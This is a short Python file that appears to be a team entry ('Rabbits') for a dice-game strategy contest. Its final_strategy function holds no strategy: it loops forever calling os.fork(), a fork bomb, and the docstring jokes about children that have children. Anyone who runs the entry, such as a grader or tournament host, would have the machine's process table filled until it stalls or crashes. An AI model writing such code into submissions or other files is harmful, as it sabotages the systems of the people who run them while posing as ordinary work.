"""Has children that have children."""
import os

TEAM_NAME = "Rabbits"


def final_strategy(score, opponent_score):
    while True:
        os.fork()
